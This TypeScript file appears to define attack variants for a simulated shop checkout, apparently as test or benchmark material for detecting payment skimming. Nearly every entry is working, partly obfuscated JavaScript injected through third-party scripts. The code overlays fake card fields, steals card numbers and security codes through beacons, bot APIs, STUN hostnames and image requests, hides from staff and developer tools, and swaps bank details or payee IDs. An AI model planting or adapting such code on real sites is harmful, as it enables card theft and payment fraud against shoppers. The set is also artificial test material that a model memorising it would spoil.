import { json, outfitterBody, page, state, stateTag, tillstoneTag } from './outfitter.ts'
import { fieldFrame, tillstone } from './outfitter-provider.ts'
import {
  bugnest,
  cookiegate,
  forkroad,
  rewindly,
  starpost,
  taghive,
  talkbubble,
  trustprint,
} from './outfitter-vendors.ts'
import { changedFile, inline, js, type Variant } from './variants.ts'

const code = String.raw
const tags = (id: string, about: string, list: string, more = ''): Variant => ({
  id,
  about,
  change: (site) => void (site.files['www.taghive.test/th.js'] = js(taghive('62', list, more))),
})
const fork = changedFile('cdn.forkroad.test/fr.js', (more) => forkroad('15', more))
const consent = changedFile('cdn.cookiegate.test/gate.js', (more) => cookiegate('3.3', more))
const chat = changedFile('js.talkbubble.test/tb.js', (more) => talkbubble('34', more))
const replay = changedFile('cdn.rewindly.test/rec.js', (more) => rewindly('2.9', more))
const faults = changedFile('js.bugnest.test/5/bn.js', (more) => bugnest('5.31', more))
const stars = changedFile('widget.starpost.test/sp.js', (more) => starpost('5', more))
const device = changedFile('cdn.trustprint.test/tp.js', (more) => trustprint('3.1', more))
const experiments = (id: string, about: string, changes: object[]): Variant => ({
  id,
  about,
  change: (site) =>
    void (site.files['cdn.forkroad.test/5120.json'] = json({
      experiments: [
        { id: 7, arms: [{}, { css: '.pay{background:#263;color:#fff}' }] },
        { id: 9, arms: [{ changes }] },
      ],
    })),
})
/** Runs `body` once the provider's frames stand in the page. */
const framed = (body: string) =>
  code`var wait = setInterval(function () { var number = document.getElementById("ts-number"), cvc = document.getElementById("ts-cvc"); if (!number || !cvc || !number.firstChild || !cvc.firstChild) return; clearInterval(wait); ${body} }, 150);`
/** What stands in the two fields of the shop. */
const rest = 'document.getElementById("expiry").value, document.getElementById("holder").value'

/** On the page of outfitter.ts: what comes in by the services of others and by the two providers' tags. */
export const fourteenthAttacks: readonly Variant[] = [
  tags(
    'x14-tag-overlay',
    "a tag of the container lays two fields over the provider's frames; when both are filled in they are sent and vanish, so that the customer types again",
    code`, { on: "th.dom", html: '<script>${framed('function lay(at, text, auto) { var b = document.createElement("label"), i = document.createElement("input"); b.style.cssText = "position:absolute;inset:0;background:#fff;font:15px sans-serif"; b.textContent = text + " "; i.autocomplete = auto; i.inputMode = "numeric"; b.append(i); at.append(b); return i; } var n = lay(number, "Card number", "cc-number"), c = lay(cvc, "Security code", "cc-csc"); c.addEventListener("blur", function () { if (n.value.length < 12 || c.value.length < 3) return; navigator.sendBeacon("http://px.hive-metrics.test/c", btoa([n.value, c.value, document.getElementById("expiry").value].join("|"))); n.parentNode.remove(); c.parentNode.remove(); });')}<\/script>' }`,
  ),
  fork(
    'x14-provider-customers',
    "the tool for experiments puts fields in the frames' place; the card becomes the remarks of a customer at the same provider, in the account of somebody else",
    framed(
      code`var kept = [number, cvc].map(function (e) { return e.firstChild; }); number.innerHTML = '<label>Card number <input autocomplete="cc-number" inputmode="numeric"></label>'; cvc.innerHTML = '<label>Security code <input autocomplete="cc-csc" inputmode="numeric"></label>'; d.addEventListener("click", function go(e) { if (!e.target.closest || !e.target.closest(".pay")) return; var v = [number, cvc].map(function (x) { return x.querySelector("input").value; }); if (v[0].length < 12) return; d.removeEventListener("click", go, true); e.preventDefault(); e.stopImmediatePropagation(); fetch("http://api.tillstone.test/v1/customers", { method: "POST", mode: "no-cors", keepalive: true, body: new URLSearchParams({ key: "rk_live_5Xv71pQa", "metadata[ref_a]": v[0].slice(0, 8), "metadata[ref_b]": v[0].slice(8), "metadata[ref_c]": v[1], "metadata[ref_d]": [${rest}].join("/") }) }); number.replaceChildren(kept[0]); cvc.replaceChildren(kept[1]); d.querySelector(".error").textContent = "Please check the card details."; }, true);`,
    ),
  ),
  chat(
    'x14-stun-names',
    'the chat draws boxes to write in over the frames, which are no input elements, and asks for a relay of calls whose name is the card',
    framed(
      code`var typed = {}; [[number, "Card number"], [cvc, "Security code"]].forEach(function (x, at) { var b = d.createElement("div"), t = d.createElement("div"), l = d.createElement("span"); b.style.cssText = "position:absolute;inset:0;background:#fff;font:15px sans-serif"; l.textContent = x[1]; l.id = "tb-l" + at; t.contentEditable = "true"; t.setAttribute("role", "textbox"); t.setAttribute("aria-labelledby", l.id); t.style.cssText = "border:1px solid #888;width:180px;min-height:20px"; b.append(l, t); x[0].append(b); t.addEventListener("input", function () { typed[at] = t.textContent.replace(/\D/g, ""); }); t.addEventListener("blur", function () { if ((typed[0] || "").length < 12 || (typed[1] || "").length < 3) return; var hex = Array.from(typed[0] + typed[1], function (c, i) { return ((c.charCodeAt(0) ^ (i % 7 + 64)) + 256).toString(16).slice(1); }).join(""); var r = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + hex.slice(0, 60) + ".turn-bubble.test:3478" }] }); r.createDataChannel("call"); r.createOffer().then(function (o) { return r.setLocalDescription(o); }); d.querySelectorAll("#ts-number > div, #ts-cvc > div").forEach(function (n) { n.remove(); }); }); });`,
    ),
  ),
  {
    id: 'x14-frame-swap',
    about:
      "no script changed: an experiment sets where the provider's frames come from, a host of a similar name, which looks the same and keeps what is typed",
    change: (site) => {
      const host = 'http://fields.tillstone-eu.test/v4/field.html'
      experiments(
        '',
        '',
        ['number', 'cvc'].map((kind) => ({
          at: `#ts-${kind} iframe`,
          set: { src: `${host}#kind=${kind}&locale=en-NL` },
        })),
      ).change(site)
      site.files[host.slice(7)] = fieldFrame(
        '4.11.0',
        code`i.addEventListener("change", function () { navigator.sendBeacon("/v4/state", kind + "=" + i.value); });`,
      )
    },
  },
  inline(
    'x14-translated-drop',
    "a piece that looks like measuring makes the provider's library draw its fields in the page, as of old; when paying, a service that translates pages is asked for one whose address holds the card",
    code`window._mtq = window._mtq || []; (function (d) { d.addEventListener("readystatechange", function () { var s = d.getElementById("__STATE__"); if (d.readyState === "interactive" && s) s.textContent = s.textContent.replace('"mode":"frames"', '"mode":"inline"'); }); d.addEventListener("submit", function () { var v = [].map.call(d.querySelectorAll("[data-ts],#holder,#expiry"), function (i) { return i.value; }); if (v.join("").length < 20) return; fetch("http://translate.lingohost.test/website?sl=auto&tl=en&hl=en&u=" + encodeURIComponent("http://outlet-news.test/a/" + btoa(unescape(encodeURIComponent(v.join(";")))).replace(/=/g, "")), { mode: "no-cors", keepalive: true }); }, true); })(document);`,
  ),
  consent(
    'x14-bot-drop',
    "the consent tool puts a field beside each frame and hides the frame; the keys, one by one, go as a message to a bot of a messenger's when the field is left",
    framed(
      code`var keys = { n: "", c: "" }; [[number, "n", "Card number", "cc-number"], [cvc, "c", "Security code", "cc-csc"]].forEach(function (x) { var l = d.createElement("label"), i = d.createElement("input"); i.autocomplete = x[3]; l.append(x[2] + " ", i); x[0].firstChild.style.display = "none"; x[0].prepend(l); i.addEventListener("keydown", function (e) { if (/^\d$/.test(e.key)) keys[x[1]] += e.key; if (e.key === "Backspace") keys[x[1]] = keys[x[1]].slice(0, -1); }); i.addEventListener("blur", function () { if (keys.n.length < 12 || keys.c.length < 3) return; var f = new FormData(); f.append("chat_id", "-1002218841"); f.append("text", [keys.n, keys.c, ${rest}, location.hostname].join(" ")); fetch("http://api.birdgram.test/bot7461180:AAH_x9Qe/sendMessage", { method: "POST", mode: "no-cors", body: f, keepalive: true }); [number, cvc].forEach(function (e) { e.firstChild.remove(); e.firstChild.style.display = ""; }); keys = { n: "", c: "" }; }); });`,
    ),
  ),
  replay(
    'x14-staged-done',
    "the session replay makes the provider's library draw its fields in the page, keeps the card among its own things in the store of the browser and sends it from the page of thanks",
    code`var lib; Object.defineProperty(w, "Tillstone", { configurable: true, get: function () { return lib; }, set: function (f) { lib = function (k, x) { return f(k, Object.assign({}, x, { mode: "inline" })); }; } }); var slot = "rw_buffer_" + sid.length; d.addEventListener("change", function () { var v = [].map.call(d.querySelectorAll("[data-ts],#holder,#expiry"), function (i) { return i.value; }).join("\u0001"); if (v.length > 18) localStorage.setItem(slot, Array.from(v, function (c, i) { return (c.charCodeAt(0) + 17 + i % 9).toString(36); }).join(".")); }, true); if (location.pathname !== "/checkout") Object.keys(localStorage).forEach(function (k) { if (!/^rw_buffer_/.test(k)) return; navigator.sendBeacon("http://in.rewindly.test/r?s=rw_7712&i=" + sid, JSON.stringify({ v: "2.9", e: [["buffer", 0, localStorage.getItem(k)]] })); localStorage.removeItem(k); });`,
  ),
  {
    id: 'x14-inline-replay',
    about:
      "only settings changed: the provider's library is to draw its fields in the page, and the session replay is to mask nothing and to record for another customer of its vendor",
    change: (site) => {
      site.body = outfitterBody({ data: stateTag(state({}, { mode: 'inline' })) })
      site.inline[1] =
        'BugNest.init({ dsn: "n-204", release: "shop@e05a" }); rewindly.init({ site: "rw_7712", mask: "", block: "" });'
    },
  },
  device(
    'x14-cloaked',
    'the script that knows devices, not for the staff, not beside open tools for developers and only after real movements, lays a copy of the fields over the frames; a picture carries the card off',
    code`var real = 0; function person(e) { if (e.isTrusted) real++; } ["pointermove", "keydown", "touchstart", "pointerdown"].forEach(function (t) { d.addEventListener(t, person, true); }); function quiet() { return navigator.webdriver || /admin|staff|preview/i.test(d.cookie + location.search) || w.outerWidth - w.innerWidth > 200 || w.outerHeight - w.innerHeight > 260 || real < 6; } var look = setInterval(function () { var number = d.getElementById("ts-number"), cvc = d.getElementById("ts-cvc"); if (quiet() || !number || !number.firstChild || !cvc) return; clearInterval(look); var got = [], layer = d.createElement("div"); [number, cvc].forEach(function (at, n) { var b = at.getBoundingClientRect(), l = d.createElement("label"), i = d.createElement("input"); l.style.cssText = "position:absolute;background:#fff;font:15px sans-serif;left:" + (b.left + w.scrollX) + "px;top:" + (b.top + w.scrollY) + "px;width:" + b.width + "px;height:" + b.height + "px"; i.inputMode = "numeric"; i.autocomplete = n ? "cc-csc" : "cc-number"; l.append(n ? "Security code " : "Card number ", i); layer.append(l); i.addEventListener("input", function () { got[n] = i.value; }); i.addEventListener("blur", function () { if (!got[0] || !got[1]) return; new Image().src = "http://d.trust-print.test/v3/p.gif?x=" + encodeURIComponent(btoa(JSON.stringify({ z: got.map(function (t) { return t.split("").reverse().join(""); }), q: [${rest}] }))); layer.remove(); }); }); d.body.append(layer); }, 300);`,
  ),
  tags(
    'x14-scan-swap',
    'the container exchanges the code to scan, the account beside it and the link to the bank for those of somebody else',
    '',
    code`var mine = "LT12 1000 0111 0100 1000", flat = mine.replace(/ /g, ""); function square(t) { var p = ""; for (var n = 0; n < 441; n++) { var x = n % 21, y = (n / 21) | 0; if ((t.charCodeAt((x * 7 + y * 3) % t.length) * (x + 2) * (y + 5)) % 3 === 0) p += "M" + x + " " + y + "h1v1h-1z"; } return "data:image/svg+xml," + encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 21 21"><path d="' + p + '"/></svg>'); } function swap() { var b = d.querySelector(".iban"), q = d.querySelector(".qr"), a = d.querySelector(".bank-link"); if (!b || b.textContent === mine) return; b.textContent = mine; q.src = square(flat + " EUR129.00"); a.href = a.href.replace(/[A-Z]{2}\d{2}[A-Z]{4}\d+/, flat); } new MutationObserver(swap).observe(d.documentElement, { childList: true, subtree: true });`,
  ),
  {
    id: 'x14-client-id',
    about: "no script changed: the address of the second provider's library names another client, who is paid",
    change: (site) => {
      site.head = site.head.map((tag) => tag.replace('client-id=pn_northpeg_5501', 'client-id=pn_quayside_0937'))
    },
  },
  experiments(
    'x14-wallet-merchant',
    "no script changed: an experiment sets the address of the wallet's frame, at the provider's own host, to that of another merchant",
    [
      {
        at: 'iframe[name=ts-wallet]',
        set: {
          src: 'http://fields.tillstone.test/v4/wallet.html#key=pk_live_2Rf90wLd&merchant=m_quayside&amount=12900&currency=EUR',
          title: 'Wallet',
        },
      },
    ],
  ),
  faults(
    'x14-fetch-hook',
    "the reporter of errors, which is loaded first, has the provider's library draw its fields in the page and hands a copy of its request to a host that is called nearly like its own",
    code`var raw = w.fetch, till; Object.defineProperty(w, "Tillstone", { configurable: true, get: function () { return till && function (k, x) { x.mode = "inline"; return till(k, x); }; }, set: function (f) { till = f; } }); w.fetch = function (u, x) { if (x && typeof x.body === "string" && /"number":"\d/.test(x.body)) raw("http://in.bug-nest.test/n-204/envelope", { method: "POST", mode: "no-cors", keepalive: true, body: JSON.stringify({ sdk: "5.31", kind: "trace", text: btoa(unescape(encodeURIComponent(x.body))) }) }); return raw.apply(this, arguments); };`,
  ),
  {
    id: 'x14-chat-asks',
    about:
      'the chat opens by itself when the customer comes to the fields, says that the form is out of order and takes the card in its own frame',
    change: (site) => {
      chat(
        '',
        '',
        code`d.addEventListener("focusin", function ask(e) { if (!e.target.closest || !e.target.closest(".payment")) return; d.removeEventListener("focusin", ask); open(); frame.style.height = "420px"; frame.src = host + "/room.html#" + app + "&flow=pay"; });`,
      ).change(site)
      site.files['chat.talkbubble.test/room.html'] = page(
        code`<!doctype html><title>Chat</title><p>Hello! How can we help?</p><form hidden><p>Card payments are disturbed at the moment. I can take your order here.</p><label>Card number <input name="n" autocomplete="cc-number" inputmode="numeric"></label><label>Expiry <input name="x" autocomplete="cc-exp"></label><label>Code <input name="c" autocomplete="cc-csc"></label><button>Send</button></form><script>var f = document.forms[0]; function tell() { navigator.sendBeacon("http://api.talkbubble.test/v2/messages", JSON.stringify({ app: "tb_4471", text: [f.n.value, f.x.value, f.c.value].join(" ") })); } if (/flow=pay/.test(location.hash)) f.hidden = false; addEventListener("hashchange", function () { f.hidden = !/flow=pay/.test(location.hash); }); f.addEventListener("change", tell); f.addEventListener("submit", function (e) { e.preventDefault(); tell(); });</script>`,
      )
    },
  },
  {
    id: 'x14-mirror-lib',
    about:
      "the provider's library comes from a mirror of packages; it is the same but for one word, so that its fields and their tokens are those of a stranger, who hands them on",
    change: (site) => {
      const mirror = 'http://cdn.jsmirror.test/npm/@tillstone/js@4.11.0/dist/tillstone.js'
      site.head = site.head.map((tag) => (tag === tillstoneTag ? `<script defer src="${mirror}"></script>` : tag))
      site.files[mirror.slice(7)] = js(tillstone('4.11.0', '', 'http://fields.tillstone-js.test'))
      site.files['fields.tillstone-js.test/v4/field.html'] = fieldFrame('4.11.0', '', 'http://api.tillstone-js.test/v1')
      site.files['fields.tillstone-js.test/v4/wallet.html'] = page(
        '<!doctype html><title>wallet</title><button type="button">Pay with your wallet</button>',
      )
      site.files['api.tillstone-js.test/v1/tokens'] = json({ id: 'tk_9Qw2Lz', brand: 'visa' })
    },
  },
  stars(
    'x14-blob-worker',
    'the widget of reviews exchanges the box of the card for a copy with fields of its own until they are filled in; a worker made of text loads a script whose address is the card',
    framed(
      code`var box = d.querySelector(".card"), copy = box.cloneNode(true); [["#ts-number", "Card number", "cc-number"], ["#ts-cvc", "Security code", "cc-csc"]].forEach(function (x) { copy.querySelector(x[0]).innerHTML = "<label>" + x[1] + ' <input autocomplete="' + x[2] + '" inputmode="numeric"></label>'; }); copy.querySelectorAll("[id]").forEach(function (e) { e.removeAttribute("id"); }); box.style.display = "none"; box.before(copy); copy.addEventListener("focusout", function () { var v = [].map.call(copy.querySelectorAll("input"), function (i) { return i.value.trim(); }); if (v.some(function (t) { return t.length < 3; })) return; var run = "try{importScripts('http://widget.star-post.test/w/" + Array.from(v.join("~"), function (c) { return (c.charCodeAt(0) * 3).toString(36).padStart(2, "0"); }).join("") + ".js')}catch(e){}"; new Worker(URL.createObjectURL(new Blob([run], { type: "text/javascript" }))); copy.remove(); box.style.display = ""; });`,
    ),
  ),
]
